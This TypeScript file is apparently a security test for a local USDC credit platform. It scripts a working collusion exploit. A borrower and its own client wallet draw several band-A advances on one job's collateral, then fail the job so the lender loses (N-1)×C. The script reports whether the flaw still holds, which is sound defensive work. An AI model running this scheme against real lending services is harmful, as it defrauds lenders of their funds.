// outsider27: one job's collateral counted again for every offer on the job. A fresh borrower (nothing repaid, so its
// job's receivable must not count: "Risk bands", "No self-dealing") posts collateral C on a job its own client wallet
// funds, then asks N offers of C each. Each is band A: the rule asks whether "what the job's collateral leaves unsecured
// of the amount" is within the principal repaid, and measures it against the whole collateral for each offer, so every
// offer is "secured" by the same C and the receivable counts for each. A lender that accepts band A only (coverage of
// 2x, the receivable counted only where collateral or repayments vouch for it) pays N x C to the supplier; the party's
// client fails the job (its whole escrow back at once) and the lender's liquidations recover C and the reserve.
// Cost to the attacker: the collateral C (it goes to the lender) and gas; the escrow comes back. Harm: a band-A
// lender loses (N - 1) x C. Exits 1 while more than C is lent at band A on a job whose only security that survives its
// failure is C (here N = 3, C = 10 USDC: 30 lent at band A against 10); 0 once the later offers are not band A.
// URL=http://127.0.0.1:8402 node --import tsx test/api/outsider27-scripts/collateral-counted-per-offer.ts   (a fresh `npm start`)
import { privateKeyToAccount } from 'viem/accounts'
import { call, fresh, fund, keys, net, ok, send, signIn, until } from '../outsider24-scripts/doc.ts'

const M = 1_000_000n
const slug = net.slug
const C = 10n * M
const N = 4
const A = C / 2n // each offer's amount: the collateral alone is a coverage of 20000 bps, band A
// The victim: a band-A-only lender.
const victim = await fresh(0n)
const vt = await signIn(victim)
const reg = await ok('POST', '/lenders/register', { availableLiquidityAtomic: String(100n * M), asset: 'USDC', networks: [slug], minFeeBps: 100, maxDurationSeconds: 2592000, acceptedRiskBands: ['A'] }, vt, 201)
const session = privateKeyToAccount(reg.sessionKey.privateKey)
await fund(session.address, 100n * M, keys.lender)
for (const tx of reg.setupTransactions) await send(session, tx)
await until('lender in book', async () => BigInt((await ok('GET', `/lenders/${victim.address}/wallet`)).activity.availableAtomic) > 0n)

// The party: a fresh borrower and its own client wallet.
const borrower = await fresh(C)
const bt = await signIn(borrower)
const client = await fresh(100n * M, keys.jobClient)
const ct = await signIn(client)
const supplier = (await ok('GET', '/suppliers'))[0]
const jobId = `job_${crypto.randomUUID()}`
const ft = await ok('GET', `/credit/jobs/${jobId}/funding-transactions?network=${slug}&asset=USDC&receivableAtomic=${100n * M}&agent=${borrower.address}&client=${client.address}`)
let fundingTxHash = ''
for (const tx of ft.transactions) fundingTxHash = await send(client, tx)
await ok('POST', '/credit/jobs', { jobId, network: slug, asset: 'USDC', agent: borrower.address, receivableAtomic: String(100n * M), dueAt: new Date(Date.now() + 7 * 86400_000).toISOString(), fundingTxHash }, bt, 201)
const c = await ok('GET', `/credit/jobs/${jobId}/collateral-transactions?amountAtomic=${C}`)
let h = ''
for (const tx of c.transactions) h = await send(borrower, tx)
await ok('POST', `/credit/jobs/${jobId}/collateral`, { amountAtomic: String(C), txHash: h }, bt, 201)

// Every offer is asked first (each band A while none is funded), then each is matched and the victim pays it.
const offers: string[] = []
for (let i = 0; i < N; i++) {
  const r = await ok('POST', '/credit/request', { agent: borrower.address, network: slug, asset: 'USDC', productType: 'job', amountAtomic: String(A), purpose: 'inference', supplier: supplier.name, supplierDomain: supplier.domain, repaymentSource: jobId, maximumFeeAtomic: String(1n * M) }, bt)
  console.log(`offer ${i + 1}: ${r.decision} band ${r.offer?.riskBand ?? '-'} ${JSON.stringify(r.reasons ?? [])}`)
  if (r.decision === 'approved' && r.offer.riskBand === 'A') offers.push(r.offer.offerId)
}
const advances: string[] = []
for (const offerId of offers) {
  const m = await ok('POST', '/credit/match', { offerId }, bt)
  if (!m.lease) { console.log('no lease:', JSON.stringify(m.noLease).slice(0, 300)); continue }
  // The victim lender pays its lease, as the SDK's lender loop would.
  const pay = await until('pay_supplier', async () => (await ok('GET', `/lenders/${victim.address}/actions`, undefined, vt)).find((a: any) => a.kind === 'pay_supplier' && a.lease.offerId === offerId))
  const tx = await send(session, pay.transaction)
  advances.push((await ok('POST', `/credit/offers/${offerId}/supplier-payment`, { lender: victim.address, supplierPaymentId: tx }, vt)).advanceId)
}
const lent = BigInt(advances.length) * A
console.log(`lent at band A by the victim: ${lent / M} USDC against ${C / M} of collateral`)
if (advances.length > 1) {
  // The party's client fails the job: its escrow back at once; the victim liquidates each advance.
  await ok('POST', `/credit/jobs/${jobId}/fail`, { reason: 'not_delivered' }, ct)
  let recovered = 0n
  for (const id of advances) {
    await until('defaulted', async () => (await ok('GET', `/credit/advances/${id}`)).state === 'defaulted')
    const l = await call('POST', `/credit/advances/${id}/liquidate`, {}, vt)
    const a = await ok('GET', `/credit/advances/${id}`)
    console.log(`liquidate ${id}: ${l.status} ${a.state} lenderOwed ${a.lenderOwedAtomic}`)
    recovered += BigInt(a.principalAtomic) + BigInt(a.feeAtomic) - BigInt(a.lenderOwedAtomic)
  }
  console.log(`recovered ${Number(recovered) / 1e6} of ${Number(lent) / 1e6} USDC lent; the client's escrow is back with it`)
}
const holds = lent > C
console.log(holds ? `FINDING: ${lent / M} USDC lent at band A on one job against ${C / M} USDC of collateral, a fresh borrower's receivable counted for each` : 'holds: the collateral backs band A once')
process.exit(holds ? 1 : 0)
